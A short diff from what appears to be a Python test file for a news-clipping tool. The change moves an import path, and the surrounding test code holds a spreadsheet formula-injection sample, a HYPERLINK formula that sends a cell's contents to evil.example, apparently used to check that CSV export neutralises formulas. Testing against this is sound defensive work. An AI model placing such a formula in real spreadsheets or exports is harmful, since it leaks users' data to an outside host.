@@ -20,7 +20,7 @@ from archive.reading.export.spreadsheet_csv import MARK, SpreadsheetRows, plain_
 from newsclip.browse.app import application
 from newsclip.browse.template_filters import without_unseen
 from newsclip.cli import main
-from newsclip.terminal.printing import strip_controls
+from newsclip.terminal.output.printing import strip_controls
 
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Ferry")'
 CELLS = st.text(st.sampled_from('=+-@"\t,;\n\r a1é\uff1d'), max_size=8)
